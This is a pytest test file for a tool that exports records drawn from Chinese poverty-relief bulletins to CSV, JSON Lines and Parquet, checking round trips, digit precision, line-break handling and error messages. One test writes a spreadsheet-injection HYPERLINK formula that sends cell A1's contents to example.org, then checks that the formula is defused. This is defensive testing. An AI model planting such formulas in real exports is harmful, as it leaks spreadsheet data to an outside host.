"""What the tables of a build promise: nothing is lost on the way to a file and back, and spreadsheets open them."""

import csv
import json
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kg.errors import InputError
from kg.extract.pipeline import extract_records
from kg.model import Bound, LeftOut, Records, Refusal, Role, Section, Status
from kg.read import read_text
from kg.tables import read_records, write_tables, write_texts
from kg.tables.parquet import connect
from kg.tables.sheets import COLUMNS
from miniature import bulletin, hostile, miniature

ROOT = Path(__file__).parents[1]


def write(records: Records, folder: Path) -> Path:
    write_tables(records, folder / "tables")
    write_texts(records, folder / "texts")
    return folder


def with_value(value: Decimal, upper: Decimal | None = None) -> Records:
    records = miniature()
    first, *rest = records.actions
    odd = replace(first.measures[0], value=value, upper=upper, bound=Bound.RANGE, role=Role.PART, total="measure-1")
    return replace(records, actions=(replace(first, measures=(odd,)), *rest))


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_what_the_founding_bulletin_states_comes_back_as_it_was_written(tmp_path: Path) -> None:
    from kg.extract.pipeline import extract_records
    from kg.read.inputs import read_inputs

    bulletins = read_inputs([ROOT / "data" / "bulletins"]).bulletins
    records = extract_records(bulletins)
    assert records.actions
    assert records.left_out
    assert records.merges
    assert records.bulletins[0].articles[0].sections
    assert read_records(write(records, tmp_path)) == records


@pytest.mark.parametrize("records", [miniature(), hostile(), Records()], ids=["miniature", "hostile", "empty"])
def test_records_come_back_as_they_were_written(records: Records, tmp_path: Path) -> None:
    assert read_records(write(records, tmp_path)) == records


def test_the_places_above_those_that_are_named_come_back_too(tmp_path: Path) -> None:
    records = extract_records([read_text("浙江省衢州市衢江区对口帮扶平武县，投入534万元。")])
    assert [(e.name, e.mentions) for e in records.regions] == [("四川省", ()), ("绵阳市", ())]
    assert read_records(write(records, tmp_path)).regions == records.regions


def test_what_was_refused_comes_back_too(tmp_path: Path) -> None:
    records = miniature()
    claimed = replace(records.actions[0].evidence[0], quote="不在原文")
    refused = (Refusal(records.actions[0].id, "quote", claimed), Refusal("place-330482", "unnamed"))
    assert read_records(write(replace(records, refused=refused), tmp_path)).refused == refused


def test_line_breaks_of_any_kind_within_a_text_break_no_table(tmp_path: Path) -> None:
    records = miniature()
    odd = "衢江\r\n投入\x85资金\u2028534\u2029万元\x0b\x1c\t"
    article = replace(bulletin().articles[0], sections=(Section("一是", odd, 1, 0, 9),))
    source = replace(records.bulletins[0], text=odd, title=odd, articles=(article,))
    first = replace(records.actions[0], about=odd)
    left_out = LeftOut(replace(first.evidence[0], quote=odd, article=None), "date")
    records = Records((source,), records.entities, (first, *records.actions[1:]), (left_out,))
    folder = write(records, tmp_path)
    assert read_records(folder) == records
    assert len((folder / "tables" / "left_out.jsonl").read_text(encoding="utf-8").splitlines()) == 1
    assert rows(folder / "tables" / "left_out.csv")[0]["quote"] == odd


@settings(deadline=None, max_examples=20)  # it writes files, ten figures at a time
@given(st.lists(st.decimals(allow_nan=False, allow_infinity=False, places=None, min_value=0, max_value=10**15), min_size=10, max_size=10))
def test_a_figure_keeps_every_digit(tmp_path_factory: pytest.TempPathFactory, values: list[Decimal]) -> None:
    one = with_value(Decimal(1))
    first, *rest = one.actions
    above = Decimal("0.10000000000000000000001")
    figures = tuple(replace(first.measures[0], id=f"measure-{n}", value=v, upper=v + above) for n, v in enumerate(values))
    records = replace(one, actions=(replace(first, measures=figures), *rest))
    assert read_records(write(records, tmp_path_factory.mktemp("figure"))) == records


def test_a_plain_figure_is_a_number_in_json_lines(tmp_path: Path) -> None:
    write_tables(with_value(Decimal("10.486"), Decimal("2.0E+8")), tmp_path)
    measures = [json.loads(line) for line in (tmp_path / "measures.jsonl").read_text(encoding="utf-8").splitlines()]
    odd = next(m for m in measures if m["bound"] == "range")
    assert (odd["value"], odd["max"], odd["role"]) == (10.486, 200000000, "part")


def test_measures_and_evidence_name_the_record_they_belong_to(tmp_path: Path) -> None:
    write_tables(miniature(), tmp_path)
    actions = {row["id"] for row in rows(tmp_path / "actions.csv")}
    assert {row["action"] for row in rows(tmp_path / "measures.csv")} <= actions
    evidence = rows(tmp_path / "evidence.csv")
    text = bulletin().text
    assert actions <= {row["of"] for row in evidence}
    assert all(text[int(row["start"]) : int(row["end"])] == row["quote"] for row in evidence)


def test_a_spreadsheet_shows_an_action_in_one_line(tmp_path: Path) -> None:
    write_tables(miniature(), tmp_path)
    data = (tmp_path / "actions.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,kind,provider,")
    assert data.count(b"\r\n") == data.count(b"\n") == len(miniature().actions) + 1
    row = next(row for row in rows(tmp_path / "actions.csv") if row["kind"] == "funding")
    assert (row["provider"], row["recipient"], row["recipient_id"], row["measures"]) == ("衢江区", "平武县", "place-510727", "534万元")
    assert row["quote"] == "落实社会帮扶资金534万元"


def test_no_cell_runs_as_a_formula(tmp_path: Path) -> None:
    records = miniature()
    evil = '=HYPERLINK("http://example.org/?"&A1,"534万元")'
    write_tables(replace(records, actions=(replace(records.actions[0], about=evil),)), tmp_path)
    assert rows(tmp_path / "actions.csv")[0]["about"] == f"'{evil}"


def test_a_folder_that_is_no_build_is_named(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"holds no build: make one with kg build"):
        read_records(tmp_path)
    with pytest.raises(InputError, match=r"nowhere does not exist: make one with kg build"):
        read_records(tmp_path / "nowhere")


@pytest.mark.parametrize(
    ("table", "broken", "said"),
    [
        ("actions", '{"id": "action-1", ', r"actions\.jsonl, line 8 is broken \(Expecting property name"),
        ("actions", "[]", r"actions\.jsonl, line 8 is broken"),
        ("entities", '{"id": "place-1"}', r"entities\.jsonl, line 8 has no 'name'"),
        ("left_out", "\udcff", r"left_out\.jsonl, line 1 is broken"),
        ("bulletins", '{"id": "elsewhere", "blocks": []', r"bulletins\.jsonl, line 2 is broken"),
    ],
)
def test_a_broken_line_is_named_with_its_file_and_number(table: str, broken: str, said: str, tmp_path: Path) -> None:
    folder = write(miniature(), tmp_path)
    with (folder / "tables" / f"{table}.jsonl").open("ab") as file:
        file.write(broken.encode(errors="surrogateescape") + b"\n")
    with pytest.raises(InputError, match=said + r"(?s:.*): build it again with kg build"):
        read_records(folder)


def test_a_party_that_no_table_knows_is_named(tmp_path: Path) -> None:
    folder = write(miniature(), tmp_path)
    entities = folder / "tables" / "entities.jsonl"
    entities.write_text("".join(line for line in entities.read_text("utf-8").splitlines(keepends=True) if "place-510727" not in line), "utf-8")
    with pytest.raises(InputError, match=r"actions\.jsonl, line \d is broken \(place-510727 is not among the entities\)"):
        read_records(folder)


def test_a_missing_table_or_text_is_named(tmp_path: Path) -> None:
    folder = write(miniature(), tmp_path)
    (folder / "texts" / "sichuan-2019-2.txt").unlink()
    with pytest.raises(InputError, match=r"sichuan-2019-2\.txt cannot be read .*: build it again"):
        read_records(folder)
    (folder / "tables" / "bulletins.jsonl").unlink()
    with pytest.raises(InputError, match=r"bulletins\.jsonl cannot be read .*: build it again"):
        read_records(folder)


def test_what_is_committed_is_planned_to_the_scorer_and_committed_to_all_others(tmp_path: Path) -> None:
    action = replace(miniature().actions[0], status=Status.COMMITTED)
    write(replace(miniature(), actions=(action,)), tmp_path)
    row = json.loads((tmp_path / "tables" / "actions.jsonl").read_text(encoding="utf-8"))
    assert (row["status"], row["committed"]) == ("planned", True)
    assert [line["status"] for line in rows(tmp_path / "tables" / "actions.csv")] == ["committed"]
    assert read_records(tmp_path).actions == (action,)


def parquet(file: Path) -> list[dict[str, Any]]:
    with connect(file) as connection:
        found = connection.execute(f"SELECT * FROM {file.stem}")
        columns = [name for name, *_ in found.description or ()]
        return [dict(zip(columns, row, strict=True)) for row in found.fetchall()]


def test_parquet_holds_what_the_sheet_holds_with_numbers_and_lists_as_such(tmp_path: Path) -> None:
    records = miniature()
    write_tables(records, tmp_path)
    for name, columns in COLUMNS.items():
        found, sheet = parquet(tmp_path / f"{name}.parquet"), rows(tmp_path / f"{name}.csv")
        assert len(found) == len(sheet)
        assert all(tuple(row) == columns for row in found)
        assert [row.get("id") for row in found] == [row.get("id") for row in sheet]
    measures = {row["quote"]: row for row in parquet(tmp_path / "measures.parquet")}
    assert (measures["534万元"]["value"], measures["534万元"]["max"], measures["534万元"]["counts_in_totals"]) == (Decimal(5340000), None, True)
    action = next(row for row in parquet(tmp_path / "actions.parquet") if row["kind"] == "funding")
    assert (action["provider"], action["provider_id"], action["measures"], action["start"]) == (["衢江区"], ["place-330803"], ["534万元"], 184)


def test_parquet_is_the_same_bytes_for_the_same_rows_and_leaves_nothing_beside_it(tmp_path: Path) -> None:
    for folder in ("it's [a] *", "b"):
        write_tables(hostile(), tmp_path / folder)
    for file in (tmp_path / "b").glob("*.parquet"):
        assert file.read_bytes() == (tmp_path / "it's [a] *" / file.name).read_bytes()
        assert len(parquet(tmp_path / "it's [a] *" / file.name)) == len(parquet(file))
    assert {file.suffix for file in (tmp_path / "b").iterdir()} == {".csv", ".jsonl", ".parquet"}
    assert any("</script>" in row["quote"] or row["quote"].startswith("收到") for row in parquet(tmp_path / "b" / "actions.parquet"))


def test_a_figure_too_large_for_parquet_breaks_no_build_and_is_nothing_there(tmp_path: Path) -> None:
    write_tables(with_value(Decimal(10) ** 30, Decimal(10) ** 31), tmp_path)
    odd = next(row for row in parquet(tmp_path / "measures.parquet") if row["bound"] == "range")
    assert (odd["value"], odd["max"]) == (None, None)
